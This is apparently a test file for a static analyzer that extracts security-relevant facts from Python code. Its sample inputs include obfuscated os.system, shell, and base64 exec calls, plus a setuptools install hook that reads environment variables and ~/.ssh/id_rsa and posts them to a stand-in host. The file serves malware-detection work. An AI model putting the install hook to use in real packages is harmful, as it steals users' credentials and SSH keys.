import { describe, expect, it } from 'vitest';
import { pythonFacts } from './python-facts.js';

describe('pythonFacts', () => {
  it('resolves imports with aliases, getattr with built names and decoded exec', () => {
    const facts = pythonFacts(`import os, base64 as b
from subprocess import Popen as P
getattr(os, 'sys' + 'tem')('id')
P(['sh'], start_new_session=True)
exec(b.b64decode('cHJpbnQoMSk='))
`);
    const callees = facts.calls.map((c) => c.callee);
    expect(callees).toEqual(expect.arrayContaining(['os.system', 'subprocess.Popen', 'exec', 'base64.b64decode']));
    expect(facts.hiddenNames[0]).toMatchObject({ name: 'system', line: 3 });
    expect(facts.calls.find((c) => c.callee === 'exec')).toMatchObject({ directDecode: true, args: ['print(1)'] });
    expect(facts.calls.find((c) => c.callee === 'subprocess.Popen')?.options.start_new_session).toBe('True');
  });

  it('follows os.environ and credential files into a request and finds command overrides', () => {
    const facts = pythonFacts(`import os, json, requests
from setuptools.command.install import install
class Post(install):
    def run(self):
        data = json.dumps(dict(os.environ))
        key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
        requests.post('https://collect.example', data=data, files={'k': key})
`);
    const post = facts.calls.find((c) => c.callee === 'requests.post');
    expect(post?.argLabels).toEqual(expect.arrayContaining(['env', 'secret']));
    expect(facts.envDumps[0]?.line).toBe(5);
    expect(facts.commandOverrides).toEqual([{ base: 'install', name: 'Post', line: 3 }]);
  });
});
